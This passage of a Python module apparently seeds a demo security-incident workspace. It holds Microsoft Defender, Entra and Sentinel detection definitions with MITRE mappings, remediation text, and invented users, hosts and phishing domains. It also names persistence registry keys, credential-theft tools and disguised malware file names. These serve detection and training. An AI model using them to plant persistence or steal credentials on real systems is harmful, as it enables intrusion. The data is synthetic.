"""What the demo workspace is made of: products, detections, entities and incident wording.

Pure data and pure functions (no database): `seed_demo` draws from them with a seeded
`random.Random`, so one seed always gives the same workspace.

Detection names, products and MITRE ATT&CK mappings follow the alerts that Microsoft
Defender, Microsoft Entra ID Protection and Microsoft Sentinel really raise; people, hosts,
domains and addresses are invented (contoso.com and look-alike phishing domains).
"""

import random
import string
from dataclasses import dataclass, field

from incidents import mitre
from incidents.entities import normalize_identifier
from incidents.models import (
    CLASSIFICATION_REASONS,
    Classification,
    EntityKind,
    Severity,
)

SENTINEL = "Microsoft Sentinel"
DEFENDER_XDR = "Microsoft Defender XDR"
DEFENDER_FOR_CLOUD = "Microsoft Defender for Cloud"

# Incident providers and how often each appears in the queue.
INCIDENT_PROVIDERS = {SENTINEL: 0.62, DEFENDER_XDR: 0.26, DEFENDER_FOR_CLOUD: 0.12}


# Compared and hashed by identity: each product and detection exists once.
@dataclass(frozen=True, eq=False)
class Product:
    name: str
    # ProviderName of its alerts when Sentinel ingests them (SecurityAlert table).
    sentinel_provider: str
    # Prefix of its provider alert ids ("da…" for Defender for Endpoint, as in the portal).
    alert_id_prefix: str
    # Whether Defender XDR correlates its alerts into its own incidents.
    in_xdr: bool
    extended_properties: dict[str, str] = field(default_factory=dict)


MDE = Product("Microsoft Defender for Endpoint", "MDATP", "da", True, {"Detection Source": "EDR"})
MDO = Product(
    "Microsoft Defender for Office 365",
    "OATP",
    "fa",
    True,
    {"Detection Source": "Microsoft Defender for Office 365"},
)
MDCA = Product(
    "Microsoft Defender for Cloud Apps",
    "MCAS",
    "ca",
    True,
    {"Detection Source": "Microsoft Defender for Cloud Apps"},
)
ENTRA = Product(
    "Microsoft Entra ID Protection",
    "IPC",
    "ad",
    True,
    {"Detection Source": "Microsoft Entra ID Protection", "Detection timing": "Real-time"},
)
MDI = Product(
    "Microsoft Defender for Identity",
    "Azure Advanced Threat Protection",
    "aa",
    True,
    {"Detection Source": "Microsoft Defender for Identity"},
)
MDC = Product(
    "Microsoft Defender for Cloud",
    "Azure Security Center",
    "",
    False,
    {"Resource type": "Virtual Machine", "Intent": "Exploitation"},
)
ANALYTICS = Product(
    "Microsoft Sentinel",
    "ASI Scheduled Alerts",
    "",
    False,
    {"Query Period": "1d", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0"},
)


@dataclass(frozen=True, eq=False)
class Detection:
    """A kind of alert: what raises it, what it means and which entities it names."""

    name: str
    alert_type: str
    product: Product
    severity: Severity
    tactics: tuple[str, ...]
    techniques: tuple[str, ...]
    # Entity kinds the alert carries; its description may name any of them as {kind}.
    entities: tuple[EntityKind, ...]
    description: str
    remediation: tuple[str, ...]
    # Labels analysts usually put on incidents made of this alert.
    labels: tuple[str, ...] = ()

    def extended_properties(self) -> dict[str, str]:
        """What the alert's ExtendedProperties carry; analytics name their rule."""
        if self.product is ANALYTICS:
            return {"Analytic Rule Name": self.name, **self.product.extended_properties}
        return dict(self.product.extended_properties)


# Short names for the table below.
A = EntityKind
HIGH, MEDIUM, LOW, INFO = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFORMATIONAL

ISOLATE = "Isolate the device from the network until it has been investigated."
RESET = "Reset the user's password and revoke their refresh tokens (Revoke-MgUserSignInSession)."
MFA = "Require multifactor authentication for the user and review their sign-in logs."
PURGE = "Soft-delete the message from every mailbox it reached (Threat Explorer → Take action)."
BLOCK_URL = "Block the URL and its domain with a Defender for Endpoint indicator."
BLOCK_IP = "Block the IP address at the perimeter firewall and in Conditional Access."
SCAN = "Run a full antivirus scan on the device and collect an investigation package."

DETECTIONS: tuple[Detection, ...] = (
    # --- Microsoft Defender for Endpoint --------------------------------------------
    Detection(
        "Suspicious PowerShell command line",
        "WindowsDefenderAtp_SuspiciousPowerShell",
        MDE,
        MEDIUM,
        ("Execution",),
        ("T1059.001",),
        (A.HOST, A.ACCOUNT, A.PROCESS),
        "A suspicious PowerShell command line was run by {account} on {host}: {process}. "
        "Attackers use encoded or hidden PowerShell to download and run payloads in memory.",
        ("Review the full command line and its parent process.", SCAN, ISOLATE),
    ),
    Detection(
        "Mimikatz credential theft tool",
        "WindowsDefenderAtp_Mimikatz",
        MDE,
        HIGH,
        ("CredentialAccess",),
        ("T1003.001",),
        (A.HOST, A.ACCOUNT, A.FILEHASH),
        "The credential theft tool Mimikatz was detected on {host} in the context of "
        "{account}. It reads plaintext passwords and hashes from LSASS memory.",
        (ISOLATE, RESET, "Reset the passwords of every account that signed in to the device."),
    ),
    Detection(
        "Suspicious access to LSASS service",
        "WindowsDefenderAtp_LsassAccess",
        MDE,
        HIGH,
        ("CredentialAccess",),
        ("T1003.001",),
        (A.HOST, A.ACCOUNT, A.PROCESS),
        "{process} opened the LSASS process on {host} with rights that allow reading "
        "credentials from its memory.",
        ("Enable the attack surface reduction rule that blocks credential stealing.", ISOLATE),
    ),
    Detection(
        "Ransomware behavior detected in the file system",
        "WindowsDefenderAtp_RansomwareBehavior",
        MDE,
        HIGH,
        ("Impact",),
        ("T1486",),
        (A.HOST, A.ACCOUNT, A.PROCESS, A.FILE),
        "Files on {host} were rapidly encrypted and renamed by {process}, running as "
        "{account}; a ransom note {file} was dropped.",
        (ISOLATE, "Restore the encrypted files from backup.", "Disable the account."),
        ("Ransomware",),
    ),
    Detection(
        "Suspicious Task Scheduler activity",
        "WindowsDefenderAtp_SuspiciousScheduledTask",
        MDE,
        MEDIUM,
        ("Persistence", "Execution"),
        ("T1053.005",),
        (A.HOST, A.ACCOUNT, A.PROCESS),
        "A scheduled task that runs an unusual binary was created on {host} by {account} "
        "with {process}.",
        ("Delete the scheduled task and the file it runs.", SCAN),
    ),
    Detection(
        "Anomaly detected in ASEP registry",
        "WindowsDefenderAtp_AsepRegistry",
        MDE,
        MEDIUM,
        ("Persistence",),
        ("T1547.001",),
        (A.HOST, A.REGISTRY_KEY, A.PROCESS),
        "{process} added an autostart entry under {registrykey} on {host} so that it "
        "survives a reboot.",
        ("Remove the registry value and the file it points to.", SCAN),
    ),
    Detection(
        "Process hollowing detected",
        "WindowsDefenderAtp_ProcessHollowing",
        MDE,
        HIGH,
        ("DefenseEvasion", "PrivilegeEscalation"),
        ("T1055.012",),
        (A.HOST, A.PROCESS, A.FILEHASH),
        "{process} on {host} was started suspended and its memory replaced with foreign "
        "code, a technique used to hide malware inside a trusted process.",
        (ISOLATE, SCAN),
    ),
    Detection(
        "'CobaltStrike' malware was detected",
        "WindowsDefenderAv_CobaltStrike",
        MDE,
        HIGH,
        ("CommandAndControl", "Execution"),
        ("T1071.001", "T1059"),
        (A.HOST, A.FILE, A.FILEHASH, A.IP),
        "A Cobalt Strike beacon was detected in {file} on {host}. It contacted {ip}.",
        (ISOLATE, BLOCK_IP, "Hunt for the same file hash on other devices."),
    ),
    Detection(
        "Active malware was detected",
        "WindowsDefenderAv_ActiveMalware",
        MDE,
        MEDIUM,
        ("Execution", "Persistence"),
        ("T1204.002",),
        (A.HOST, A.ACCOUNT, A.FILE, A.FILEHASH, A.MALWARE),
        "{malware} was found running from {file} on {host} as {account}; Microsoft Defender "
        "Antivirus could not remove it before it ran.",
        (SCAN, ISOLATE, "Hunt for the same file hash on other devices."),
    ),
    Detection(
        "Suspicious WMI process creation",
        "WindowsDefenderAtp_SuspiciousWmi",
        MDE,
        MEDIUM,
        ("Execution", "LateralMovement"),
        ("T1047",),
        (A.HOST, A.ACCOUNT, A.PROCESS, A.IP),
        "{account} used WMI from {ip} to start {process} on {host}.",
        ("Check whether the account is expected to administer the device remotely.", ISOLATE),
    ),
    Detection(
        "Tampering with Microsoft Defender Antivirus settings",
        "WindowsDefenderAtp_AvTampering",
        MDE,
        MEDIUM,
        ("DefenseEvasion",),
        ("T1562.001",),
        (A.HOST, A.ACCOUNT, A.REGISTRY_KEY),
        "{account} changed {registrykey} on {host} to turn off real-time protection or add "
        "an exclusion.",
        ("Turn on tamper protection for the device.", "Restore the antivirus settings."),
    ),
    Detection(
        "Suspicious file dropped by an Office application",
        "WindowsDefenderAtp_OfficeDroppedFile",
        MDE,
        MEDIUM,
        ("InitialAccess", "Execution"),
        ("T1566.001", "T1204.002"),
        (A.HOST, A.ACCOUNT, A.FILE, A.FILEHASH),
        "An Office application opened by {account} on {host} wrote the executable {file} "
        "to disk, typical of a malicious macro.",
        ("Block macros in documents from the internet.", SCAN),
        ("Phishing",),
    ),
    Detection(
        "Suspicious sequence of exploration activities",
        "WindowsDefenderAtp_Reconnaissance",
        MDE,
        LOW,
        ("Discovery",),
        ("T1087.002", "T1069.002", "T1018"),
        (A.HOST, A.ACCOUNT, A.PROCESS),
        "{account} ran several discovery commands on {host}, ending with {process}.",
        ("Confirm with the user whether the commands were expected.",),
    ),
    Detection(
        "Uncommon remote access software",
        "WindowsDefenderAtp_RemoteAccessSoftware",
        MDE,
        LOW,
        ("CommandAndControl",),
        ("T1219",),
        (A.HOST, A.ACCOUNT, A.PROCESS, A.DNS),
        "{process} on {host} connected to {dns}, a remote access service rarely used in "
        "this organization.",
        ("Uninstall the software unless IT approved it.",),
    ),
    Detection(
        "Lateral movement using PsExec",
        "WindowsDefenderAtp_PsExecLateralMovement",
        MDE,
        MEDIUM,
        ("LateralMovement", "Execution"),
        ("T1021.002", "T1569.002"),
        (A.HOST, A.ACCOUNT, A.PROCESS, A.IP),
        "{account} used PsExec from {ip} to run {process} as a service on {host}.",
        (ISOLATE, "Review which other devices the account reached over SMB."),
    ),
    # --- Microsoft Entra ID Protection ----------------------------------------------
    Detection(
        "Unfamiliar sign-in properties",
        "UnfamiliarLocation",
        ENTRA,
        MEDIUM,
        ("InitialAccess",),
        ("T1078.004",),
        (A.ACCOUNT, A.IP, A.CLOUD_APPLICATION),
        "{account} signed in to {cloudapplication} from {ip} with properties (location, "
        "device, ISP) not seen for this user before.",
        (MFA, "Confirm the sign-in with the user; if they deny it, reset their password."),
    ),
    Detection(
        "Atypical travel",
        "ImpossibleTravel",
        ENTRA,
        MEDIUM,
        ("InitialAccess",),
        ("T1078.004",),
        (A.ACCOUNT, A.IP),
        "{account} signed in from {ip} shortly after signing in from a location too far "
        "away to travel between in that time.",
        (MFA, RESET),
    ),
    Detection(
        "Anonymous IP address",
        "AnonymousLogin",
        ENTRA,
        MEDIUM,
        ("InitialAccess",),
        ("T1090.003", "T1078.004"),
        (A.ACCOUNT, A.IP),
        "{account} signed in from {ip}, an anonymous proxy or Tor exit node.",
        (MFA, BLOCK_IP),
    ),
    Detection(
        "Password spray",
        "PasswordSpray",
        ENTRA,
        HIGH,
        ("CredentialAccess",),
        ("T1110.003",),
        (A.ACCOUNT, A.IP),
        "{ip} tried a few common passwords against many accounts; the sign-in of {account} "
        "succeeded.",
        (RESET, BLOCK_IP, "Ban common passwords with Entra Password Protection."),
    ),
    Detection(
        "Leaked credentials",
        "LeakedCredentials",
        ENTRA,
        HIGH,
        ("CredentialAccess",),
        ("T1589.001",),
        (A.ACCOUNT,),
        "Valid credentials of {account} were found in a public paste or dark-web dump.",
        (RESET, MFA),
    ),
    Detection(
        "Malicious IP address",
        "MaliciousIPAddress",
        ENTRA,
        HIGH,
        ("InitialAccess",),
        ("T1078.004",),
        (A.ACCOUNT, A.IP, A.CLOUD_APPLICATION),
        "{account} signed in to {cloudapplication} from {ip}, an address with a high rate "
        "of failed sign-ins and known as malicious by Microsoft threat intelligence.",
        (BLOCK_IP, RESET),
    ),
    # --- Microsoft Defender for Office 365 ------------------------------------------
    Detection(
        "Email messages containing malicious URL removed after delivery",
        "ZapPhishUrl",
        MDO,
        INFO,
        ("InitialAccess",),
        ("T1566.002",),
        (A.MAILBOX, A.URL, A.IP),
        "Messages sent from {ip} containing {url} were delivered to {mailbox} and later "
        "removed by zero-hour auto purge.",
        ("Check in Threat Explorer whether the link was clicked.", BLOCK_URL),
        ("Phishing",),
    ),
    Detection(
        "Email messages containing malicious file removed after delivery",
        "ZapMalwareAttachment",
        MDO,
        INFO,
        ("InitialAccess",),
        ("T1566.001",),
        (A.MAILBOX, A.FILE, A.FILEHASH),
        "A message with the attachment {file} was delivered to {mailbox} and later removed "
        "when the file was found to be malicious.",
        ("Check whether the attachment was opened on any device.", PURGE),
        ("Phishing",),
    ),
    Detection(
        "A potentially malicious URL click was detected",
        "SafeLinksUrlClick",
        MDO,
        HIGH,
        ("InitialAccess", "Execution"),
        ("T1566.002", "T1204.001"),
        (A.ACCOUNT, A.MAILBOX, A.URL),
        "{account} clicked {url} in an email; Safe Links later found the page malicious.",
        (RESET, BLOCK_URL, PURGE),
        ("Phishing",),
    ),
    Detection(
        "Email reported by user as malware or phish",
        "UserReportedPhish",
        MDO,
        INFO,
        ("InitialAccess",),
        ("T1566",),
        (A.MAILBOX, A.URL, A.IP),
        "{mailbox} reported a message containing {url}, sent from {ip}, as phishing.",
        ("Triage the submission in the Submissions page.", PURGE),
        ("Phishing", "User reported"),
    ),
    Detection(
        "Suspicious email sending patterns detected",
        "SuspiciousEmailSendingPatterns",
        MDO,
        MEDIUM,
        ("InitialAccess", "Impact"),
        ("T1566", "T1498"),
        (A.ACCOUNT, A.MAILBOX),
        "{mailbox} sent an unusual volume of messages to external recipients; the account "
        "{account} may be compromised and used for spam.",
        (RESET, "Remove the user from the Restricted entities page once clean."),
    ),
    Detection(
        "Suspicious inbox forwarding rule",
        "SuspiciousForwardingRule",
        MDO,
        MEDIUM,
        ("Collection", "Exfiltration"),
        ("T1114.003", "T1020"),
        (A.ACCOUNT, A.MAILBOX, A.IP),
        "A rule that forwards mail of {mailbox} to an external address was created by "
        "{account} from {ip}.",
        ("Delete the rule and check what was forwarded.", RESET),
        ("BEC",),
    ),
    # --- Microsoft Defender for Cloud Apps ------------------------------------------
    Detection(
        "Impossible travel activity",
        "MCAS_ALERT_ANUBIS_DETECTION_IMPOSSIBLE_TRAVEL",
        MDCA,
        MEDIUM,
        ("InitialAccess",),
        ("T1078.004",),
        (A.ACCOUNT, A.IP, A.CLOUD_APPLICATION),
        "{account} used {cloudapplication} from {ip} and from another country within a "
        "period shorter than the travel time between them.",
        (MFA, "Check whether the user uses a VPN."),
    ),
    Detection(
        "Activity from infrequent country",
        "MCAS_ALERT_ANUBIS_DETECTION_RARE_COUNTRY",
        MDCA,
        LOW,
        ("InitialAccess",),
        ("T1078.004",),
        (A.ACCOUNT, A.IP, A.CLOUD_APPLICATION),
        "{account} used {cloudapplication} from {ip}, in a country no one in the "
        "organization has used recently.",
        (MFA,),
    ),
    Detection(
        "Mass download by a single user",
        "MCAS_ALERT_ANUBIS_DETECTION_MASS_DOWNLOAD",
        MDCA,
        MEDIUM,
        ("Collection", "Exfiltration"),
        ("T1530",),
        (A.ACCOUNT, A.CLOUD_APPLICATION, A.IP),
        "{account} downloaded an unusual number of files from {cloudapplication} from {ip}.",
        ("Ask the user and their manager whether the download was expected.", RESET),
        ("Insider risk",),
    ),
    Detection(
        "Suspicious inbox manipulation rule",
        "MCAS_ALERT_ANUBIS_DETECTION_INBOX_MANIPULATION",
        MDCA,
        MEDIUM,
        ("Persistence", "DefenseEvasion"),
        ("T1564.008",),
        (A.ACCOUNT, A.MAILBOX, A.CLOUD_APPLICATION),
        "{account} created an inbox rule in {mailbox} that deletes or hides messages, "
        "typical of business email compromise.",
        ("Delete the rule.", RESET),
        ("BEC",),
    ),
    Detection(
        "Ransomware activity",
        "MCAS_ALERT_ANUBIS_DETECTION_RANSOMWARE",
        MDCA,
        HIGH,
        ("Impact",),
        ("T1486",),
        (A.ACCOUNT, A.CLOUD_APPLICATION, A.FILE),
        "{account} uploaded many files to {cloudapplication} with extensions of known "
        "ransomware, such as {file}.",
        ("Suspend the user.", "Restore the files from version history."),
        ("Ransomware",),
    ),
    # --- Microsoft Defender for Identity --------------------------------------------
    Detection(
        "Suspected DCSync attack (replication of directory services)",
        "DirectoryServicesReplicationSecurityAlert",
        MDI,
        HIGH,
        ("CredentialAccess", "Persistence"),
        ("T1003.006",),
        (A.ACCOUNT, A.HOST, A.IP),
        "{account} on {host} ({ip}) sent a replication request to a domain controller, "
        "which is how DCSync steals every password hash of the domain.",
        (ISOLATE, "Reset the krbtgt account password twice.", RESET),
    ),
    Detection(
        "Suspected Kerberos SPN exposure (external ID 2410)",
        "KerberoastingSecurityAlert",
        MDI,
        HIGH,
        ("CredentialAccess",),
        ("T1558.003",),
        (A.ACCOUNT, A.HOST),
        "{account} on {host} requested Kerberos service tickets for many service accounts "
        "at once, to crack their passwords offline.",
        ("Give service accounts long random passwords or use gMSAs.", ISOLATE),
    ),
    Detection(
        "Suspected brute-force attack (Kerberos, NTLM)",
        "BruteForceSecurityAlert",
        MDI,
        MEDIUM,
        ("CredentialAccess",),
        ("T1110.001",),
        (A.ACCOUNT, A.HOST, A.IP),
        "{host} ({ip}) made many failed authentication attempts against {account}.",
        (RESET, "Check the source device for malware."),
    ),
    # --- Microsoft Defender for Cloud -----------------------------------------------
    Detection(
        "Successful SSH brute force attack",
        "SSH_BruteForceSuccess",
        MDC,
        HIGH,
        ("InitialAccess", "CredentialAccess"),
        ("T1110.001", "T1078"),
        (A.AZURE_RESOURCE, A.HOST, A.IP, A.ACCOUNT),
        "After many failed attempts, {ip} signed in to {host} ({azureresource}) over SSH "
        "as {account}.",
        ("Restrict SSH with just-in-time VM access.", BLOCK_IP, "Rotate the account's keys."),
    ),
    Detection(
        "Digital currency mining related behavior detected",
        "VM_CurrencyMining",
        MDC,
        HIGH,
        ("Execution", "Impact"),
        ("T1496",),
        (A.AZURE_RESOURCE, A.HOST, A.PROCESS, A.DNS),
        "{process} on {host} ({azureresource}) contacted the mining pool {dns}.",
        ("Stop the process and re-image the machine.", "Review who deployed the VM."),
    ),
    Detection(
        "Suspicious process executed",
        "VM_SuspectExecutablePath",
        MDC,
        HIGH,
        ("CredentialAccess", "Execution"),
        ("T1003",),
        (A.AZURE_RESOURCE, A.HOST, A.PROCESS, A.ACCOUNT),
        "{account} ran {process} on {host} ({azureresource}), a tool associated with "
        "credential dumping.",
        (ISOLATE, SCAN),
    ),
    Detection(
        "Access from a Tor exit node to a storage account",
        "Storage.Blob_TorAnomaly",
        MDC,
        HIGH,
        ("InitialAccess", "Collection"),
        ("T1078", "T1530"),
        (A.AZURE_RESOURCE, A.IP),
        "{azureresource} was accessed from {ip}, a known Tor exit node.",
        ("Rotate the storage account keys and SAS tokens.", "Restrict network access."),
    ),
    Detection(
        "Unusual user accessed a key vault",
        "KV_AccountVolumeAccessPatternAnomaly",
        MDC,
        MEDIUM,
        ("CredentialAccess",),
        ("T1555",),
        (A.AZURE_RESOURCE, A.ACCOUNT, A.IP),
        "{account} read secrets from {azureresource} from {ip}; this user does not usually "
        "access this key vault.",
        ("Rotate the secrets that were read.", "Review the key vault access policies."),
    ),
    Detection(
        "Suspicious authentication activity",
        "VM_RDPBruteForce",
        MDC,
        MEDIUM,
        ("CredentialAccess",),
        ("T1110",),
        (A.AZURE_RESOURCE, A.HOST, A.IP),
        "{ip} made many failed RDP sign-in attempts to {host} ({azureresource}).",
        ("Enable just-in-time VM access.", BLOCK_IP),
    ),
    # --- Microsoft Sentinel scheduled analytics -------------------------------------
    Detection(
        "Brute force attack against Azure Portal",
        "SentinelAnalytics_BruteForceAzurePortal",
        ANALYTICS,
        MEDIUM,
        ("CredentialAccess",),
        ("T1110",),
        (A.ACCOUNT, A.IP, A.CLOUD_APPLICATION),
        "{ip} failed to sign in as {account} to {cloudapplication} many times within a "
        "short window (SigninLogs).",
        (MFA, BLOCK_IP),
    ),
    Detection(
        "Anomalous RDP Login Detections",
        "SentinelAnalytics_AnomalousRdpLogin",
        ANALYTICS,
        MEDIUM,
        ("LateralMovement",),
        ("T1021.001",),
        (A.ACCOUNT, A.HOST, A.IP),
        "{account} signed in to {host} over RDP from {ip}, which the machine-learning model "
        "considers anomalous for this account (SecurityEvent 4624, logon type 10).",
        ("Confirm the session with the user.", ISOLATE),
    ),
    Detection(
        "TI map IP entity to SigninLogs",
        "SentinelAnalytics_TIMapIPSigninLogs",
        ANALYTICS,
        MEDIUM,
        ("CommandAndControl",),
        ("T1071",),
        (A.ACCOUNT, A.IP),
        "{account} signed in from {ip}, an address listed by a threat intelligence indicator.",
        (BLOCK_IP, RESET),
    ),
    Detection(
        "Sign-ins from IPs that attempt sign-ins to disabled accounts",
        "SentinelAnalytics_SigninsDisabledAccounts",
        ANALYTICS,
        MEDIUM,
        ("InitialAccess", "Persistence"),
        ("T1078",),
        (A.ACCOUNT, A.IP),
        "{ip} tried to sign in to disabled accounts and then signed in as {account}.",
        (BLOCK_IP, MFA),
    ),
    Detection(
        "New access credential added to Application or Service Principal",
        "SentinelAnalytics_NewAppCredential",
        ANALYTICS,
        MEDIUM,
        ("Persistence", "PrivilegeEscalation"),
        ("T1098.001",),
        (A.ACCOUNT, A.CLOUD_APPLICATION, A.IP),
        "{account} added a new secret or certificate to the service principal of "
        "{cloudapplication} from {ip} (AuditLogs).",
        ("Remove the credential unless the change was planned.",),
    ),
    Detection(
        "Multiple users email forwarded to same destination",
        "SentinelAnalytics_MultipleUsersForwarded",
        ANALYTICS,
        MEDIUM,
        ("Collection", "Exfiltration"),
        ("T1114.003", "T1020"),
        (A.ACCOUNT, A.MAILBOX, A.IP),
        "Forwarding of {mailbox}, set up by {account} from {ip}, sends mail to a destination "
        "that several other mailboxes also forward to (OfficeActivity).",
        ("Remove the forwarding rules.", RESET),
        ("BEC",),
    ),
    Detection(
        "Potential DGA detected",
        "SentinelAnalytics_PotentialDGA",
        ANALYTICS,
        LOW,
        ("CommandAndControl",),
        ("T1568.002",),
        (A.HOST, A.IP, A.DNS),
        "{host} ({ip}) resolved many random-looking names such as {dns} that do not exist, "
        "typical of malware looking for its command server (DnsEvents).",
        (SCAN, "Block the domains at the DNS resolver."),
    ),
    Detection(
        "Rare and potentially high-risk Office operations",
        "SentinelAnalytics_RareOfficeOperations",
        ANALYTICS,
        LOW,
        ("Persistence", "Collection"),
        ("T1098", "T1114"),
        (A.ACCOUNT, A.MAILBOX, A.IP),
        "{account} performed a rarely seen Office operation (Add-MailboxPermission) on "
        "{mailbox} from {ip}.",
        ("Check that the change was approved.",),
    ),
    Detection(
        "Malware downloaded from a known malicious URL",
        "SentinelAnalytics_TIMapURLDeviceNetworkEvents",
        ANALYTICS,
        HIGH,
        ("InitialAccess", "CommandAndControl"),
        ("T1189", "T1105"),
        (A.HOST, A.ACCOUNT, A.URL, A.FILEHASH),
        "{host} downloaded a file ({filehash}) from {url}, a URL listed by threat "
        "intelligence, while {account} was signed in.",
        (BLOCK_URL, SCAN),
    ),
)

# Products whose detections appear in each incident provider's incidents.
PROVIDER_DETECTIONS: dict[str, tuple[Detection, ...]] = {
    SENTINEL: DETECTIONS,
    DEFENDER_XDR: tuple(d for d in DETECTIONS if d.product.in_xdr),
    DEFENDER_FOR_CLOUD: tuple(d for d in DETECTIONS if d.product is MDC),
}


# --- incident wording --------------------------------------------------------------


def tactic_phrase(tactics: list[str]) -> str:
    """ "Initial access & Lateral movement": the first and last stage of the attack."""
    ordered = [t.label for t in mitre.ordered_tactics(tactics)]
    if len(ordered) == 1:
        return ordered[0]
    return f"{ordered[0]} & {ordered[-1]}"


def incident_title(
    provider: str,
    detections: list[Detection],
    *,
    hosts: int,
    users: int,
    host_name: str,
) -> str:
    """The title each provider gives an incident made of alerts of `detections`."""
    distinct = list(dict.fromkeys(detections))
    if hosts:
        scope = " on one endpoint" if hosts == 1 else " on multiple endpoints"
    elif users:
        scope = " involving one user" if users == 1 else " involving multiple users"
    else:
        scope = ""
    if provider == DEFENDER_XDR:
        if len(distinct) == 1:
            return f"{distinct[0].name}{scope}"
        tactics = [t for d in distinct for t in d.tactics]
        title = f"Multi-stage incident involving {tactic_phrase(tactics)}{scope}"
        if len({d.product for d in distinct}) > 1:
            title += " reported by multiple sources"
        return title
    if provider == DEFENDER_FOR_CLOUD and len(detections) > 1:
        if hosts > 1:
            return "Security incident detected on multiple resources"
        if hosts == 1:
            return f"Security incident detected on {host_name}"
        return "Security incident with shared process detected"
    if len(distinct) > 1:
        tactics = [t for d in distinct for t in d.tactics]
        return f"Multi-stage attack involving {tactic_phrase(tactics)}{scope}"
    return distinct[0].name


CLOSING_COMMENTS: dict[Classification, tuple[str, ...]] = {
    Classification.TRUE_POSITIVE: (
        "Confirmed compromise. Device isolated, credentials reset.",
        "User confirmed they did not sign in. Password reset and sessions revoked.",
        "Malicious activity confirmed; see the attached investigation notes.",
    ),
    Classification.BENIGN_POSITIVE: (
        "Red team exercise (ticket SEC-2291).",
        "Approved admin activity by the IT operations team.",
        "Penetration test by the external vendor, scope agreed.",
    ),
    Classification.FALSE_POSITIVE: (
        "Known good software; tuning the rule.",
        "The IP belongs to our VPN provider.",
        "Duplicate data from the connector.",
    ),
    Classification.UNDETERMINED: ("Not enough data to conclude.", ""),
}
BENIGN_LABELS = ("Red team", "Pen test", "Approved change")
EXTRA_LABELS = ("VIP", "Crown jewel", "Escalated", "Needs tuning")


def classification_for(rng: random.Random) -> tuple[Classification, str, str]:
    """A closing classification, one of its reasons and a comment."""
    classification = rng.choices(list(CLOSING_COMMENTS), weights=(0.35, 0.25, 0.3, 0.1), k=1)[0]
    reasons = CLASSIFICATION_REASONS[classification]
    reason = rng.choice(reasons) if reasons else ""
    return classification, reason, rng.choice(CLOSING_COMMENTS[classification])


# --- the entity pool ---------------------------------------------------------------

FIRST_NAMES = (
    "adele", "alex", "allan", "amara", "ben", "carlos", "chen", "diego", "emily", "fatima",
    "grace", "hana", "ibrahim", "isaiah", "jan", "joni", "kenji", "lara", "lee", "lidia",
    "lynne", "megan", "miriam", "nestor", "nina", "omar", "patti", "pradeep", "priya", "raul",
    "sara", "sofia", "tomas", "valentina", "wei", "yuki", "zoe", "henrietta", "johanna", "irvin",
)  # fmt: skip
LAST_NAMES = (
    "vance", "wilber", "deyoung", "okafor", "andersen", "silva", "wang", "ramos", "clarke",
    "haddad", "taylor", "sato", "mensah", "jones", "de vries", "sherman", "morita", "novak",
    "kim", "garcia", "mcrae", "bowen", "cohen", "gonzalez", "petrov", "hassan", "fernandez",
    "iyer", "sharma", "ortiz", "lindqvist", "rossi", "horak", "bianchi", "liu", "tanaka",
    "murphy", "mueller", "adams", "brown",
)  # fmt: skip
DEPARTMENTS = ("FIN", "HR", "ENG", "MKT", "SAL", "OPS", "LEG", "IT", "RND", "EXE")
SERVER_ROLES = ("DC", "SQL", "WEB", "FS", "EXCH", "APP", "JMP", "CA", "BKP", "PRT")
COUNTRIES = (
    ("NL", "Amsterdam"), ("US", "Ashburn"), ("RU", "Moscow"), ("CN", "Shanghai"),
    ("NG", "Lagos"), ("BR", "São Paulo"), ("DE", "Frankfurt"), ("RO", "Bucharest"),
    ("VN", "Hanoi"), ("IR", "Tehran"), ("KP", "Pyongyang"), ("UA", "Kyiv"), ("IN", "Mumbai"),
    ("GB", "London"), ("SG", "Singapore"), ("TR", "Istanbul"),
)  # fmt: skip
LOOKALIKE_WORDS = (
    "login", "secure", "office365", "microsoft", "sharepoint", "onedrive", "docs", "verify",
    "account", "payroll", "invoice", "dhl", "fedex", "docusign", "support", "update", "auth",
    "portal", "mail", "outlook", "teams", "helpdesk", "billing", "wallet",
)  # fmt: skip
TLDS = ("com", "net", "info", "xyz", "top", "online", "site", "live", "click", "ru", "cn")
CLOUD_APPLICATIONS = (
    "Microsoft Exchange Online", "Microsoft SharePoint Online", "Microsoft OneDrive for Business",
    "Microsoft Teams", "Microsoft Azure", "Azure Portal", "Microsoft 365", "Dropbox", "Box",
    "Google Drive", "WeTransfer", "Salesforce", "GitHub", "Slack", "Zoom", "Amazon Web Services",
    "ServiceNow", "Workday", "DocuSign", "Mega",
)  # fmt: skip
REGISTRY_KEYS = (
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options",
    r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services",
    r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Lsa",
    r"HKEY_CURRENT_USER\SOFTWARE\Classes\ms-settings\Shell\Open\command",
)
MALWARE = (
    "HackTool:Win32/Mimikatz", "Backdoor:Win64/CobaltStrike", "Trojan:Win32/Emotet",
    "Trojan:Win32/Qakbot", "Ransom:Win32/LockBit", "Ransom:Win64/BlackCat",
    "TrojanDownloader:O97M/Donoff", "Trojan:Win32/IcedID", "Backdoor:MSIL/AsyncRAT",
    "Trojan:Win64/BruteRatel", "Exploit:O97M/CVE-2017-11882", "Trojan:Script/Wacatac",
    "HackTool:Win64/Rubeus", "Trojan:Win32/Bumblebee", "PWS:Win32/RedLine",
)  # fmt: skip
FILE_NAMES = (
    "invoice_{n}.docm", "Payroll_Q{q}_{n}.xlsm", "update_{n}.exe", "setup{n}.msi",
    "scan_{n}.pdf.exe", "readme_{n}.txt", "HOW_TO_DECRYPT_{n}.txt", "svch0st{n}.exe",
    "report_{n}.iso", "shipment_{n}.lnk", "remittance_{n}.html", "payload{n}.dll",
)  # fmt: skip
FILE_DIRECTORIES = (
    r"C:\Users\{user}\AppData\Local\Temp", r"C:\Users\{user}\Downloads", r"C:\ProgramData",
